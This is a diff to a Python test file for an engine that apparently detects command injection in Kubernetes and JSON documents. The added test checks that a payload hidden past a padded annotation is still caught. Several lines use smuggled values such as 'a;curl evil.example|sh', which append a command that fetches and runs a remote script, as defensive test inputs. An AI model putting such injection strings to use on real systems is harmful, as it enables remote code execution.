@@ -615,6 +615,15 @@ def test_a_document_in_a_string_repeats_its_held_values(engine: Engine) -> None:
     assert _json_types(engine, review | {"request": {"object": applied({})}}) == set()
     assert _json_types(engine, applied({"app": "a;curl evil.example|sh"})) == {"rce"}
     assert _json_types(engine, {"note": json.dumps({"q": "x;curl evil.example|sh"})}) == {"rce"}
+    # A document cut short by the budget of what is read again: what the string alone holds
+    # past the cut may stand behind the command it repeats first.
+    labels = {f"label{n}": "v" for n in range(3000)}
+    padded = {"apiVersion": "apps/v1", "kind": "Deployment", "spec": spec}
+    padded |= {"metadata": {"labels": labels}, "zz": "a;curl evil.example|sh"}
+    key = "kubectl.kubernetes.io/last-applied-configuration"
+    cut = json.loads(json.dumps(deployment))
+    cut["metadata"]["annotations"] = {key: json.dumps(padded)}
+    assert _json_types(engine, cut) == {"rce"}
 
 
 def test_a_containers_program_is_what_its_platform_runs(engine: Engine) -> None:
